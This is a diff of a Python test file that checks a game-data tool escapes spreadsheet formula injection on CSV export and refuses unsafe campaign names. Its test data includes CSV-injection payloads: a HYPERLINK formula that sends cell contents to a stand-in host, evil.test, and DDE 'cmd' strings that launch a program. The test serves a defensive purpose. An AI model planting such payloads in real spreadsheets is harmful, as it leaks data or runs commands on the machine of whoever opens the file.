@@ -107,7 +107,8 @@ def test_an_exported_sheet_opens_formulas_as_text_and_imports_them_back(tmp_path
     shutil.copytree(GreatWarInTheEast().default_data_dir(), data)
     counters = yaml.safe_load((data / "counters.yaml").read_text(encoding="utf-8"))
     hostile = ['=HYPERLINK("http://evil.test/?"&A1,"Click")', "+cmd|' /C calc'!A0",
-               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "-1", "+3"]
+               "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", " =1+1",
+               "'quoted'", "-1", "+3"]
     for unit, note in zip(counters["units"], hostile, strict=False):
         unit["note"] = note
     (data / "counters.yaml").write_text(yaml.safe_dump(counters, sort_keys=False),
@@ -115,7 +116,7 @@ def test_an_exported_sheet_opens_formulas_as_text_and_imports_them_back(tmp_path
     export_data_set(data, tmp_path / "sheets")
     with (tmp_path / "sheets" / "counters.csv").open(encoding="utf-8", newline="") as sheet:
         notes = [row["note"] for row in csv.DictReader(sheet)][:len(hostile)]
-    assert notes == [f"'{cell}" for cell in hostile[:4]] + ["-1", "+3"]
+    assert notes == [f"'{cell}" for cell in hostile[:6]] + ["-1", "+3"]
     import_data_set(tmp_path / "sheets", tmp_path / "back")
     back, problems = read_bound(tmp_path / "back")
     assert back is not None, problems
@@ -124,7 +125,8 @@ def test_an_exported_sheet_opens_formulas_as_text_and_imports_them_back(tmp_path
 
 def test_a_campaign_name_with_a_newline_or_dots_is_refused(tmp_path: Path) -> None:
     for name, why in (("bad\nname", "control or invisible character"),
-                      ("a..b", "'..'"), ("a<b>", "letters, digits")):
+                      ("a..b", "'..'"), ("a<b>", "letters, digits"),
+                      ("G\u0430me", "ASCII"), ("ends.", "ending with")):
         made = CliRunner().invoke(cli, ["new", str(tmp_path / name), *PLAYERS])
         said = str(made.exception)
         assert made.exit_code != 0 and "is refused" in said and why in said, said
